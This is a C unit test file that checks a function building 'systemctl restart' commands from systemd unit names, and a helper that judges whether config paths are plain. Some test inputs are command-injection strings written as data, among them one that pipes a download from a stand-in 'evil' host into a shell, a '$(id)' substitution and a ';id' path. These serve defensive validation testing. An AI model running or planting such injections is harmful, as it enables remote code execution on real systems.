/* Text of others in commands of ours. */
#include "unit.h"
#include "model/command.h"

static void equal(const char *unit, bool is_system, const char *expected)
{
	cleanup(arena_cleanup) struct arena *arena = arena_new();
	struct process p = { .unit = unit, .unit_is_system = is_system };
	const char *is = command_restart(&p, arena);

	if (expected && is)
		assert_string_equal(is, expected);
	else if (expected || is)
		fail_msg("%s: %s", unit, is ? is : "no command");
}

static void a_service_of_the_system_restarts(void **state)
{
	equal("nginx.service", true, "systemctl restart nginx.service");
	equal("getty@tty1.service", true, "systemctl restart getty@tty1.service");
	equal("my\\x2dapp.service", true, "systemctl restart 'my\\x2dapp.service'");
}

static void nothing_else_does(void **state)
{
	equal(NULL, true, NULL);
	equal("postgresql.service", false, NULL); /* of a user's own manager */
	equal("session-3.scope", true, NULL);
	equal("nginx", true, NULL);
	equal("", true, NULL);
	equal("--force.service", true, NULL);
	equal("nginx.service;curl evil|sh;.service", true, NULL);
	equal("a b.service", true, NULL);
	equal("$(id).service", true, NULL);
	equal("a\nb.service", true, NULL);
	equal("a'b.service", true, NULL);
	equal("caf\303\251.service", true, NULL);
}

static void one_in_a_container_is_another_manager_s(void **state)
{
	cleanup(arena_cleanup) struct arena *arena = arena_new();
	struct process p = { .unit = "cron.service", .unit_is_system = true, .container = "web1" };

	assert_null(command_restart(&p, arena));
}

static void plain_paths(void **state)
{
	assert_true(command_path_is_plain("/etc/sysctl.d/10-x_y.conf"));
	assert_false(command_path_is_plain("etc/sysctl.conf"));
	assert_false(command_path_is_plain("/etc/a;id.conf"));
	assert_false(command_path_is_plain("/etc/a b"));
	assert_false(command_path_is_plain("/etc/a\nb"));
	assert_false(command_path_is_plain(""));
}

UNIT_MAIN(TEST(a_service_of_the_system_restarts), TEST(nothing_else_does),
          TEST(one_in_a_container_is_another_manager_s), TEST(plain_paths));
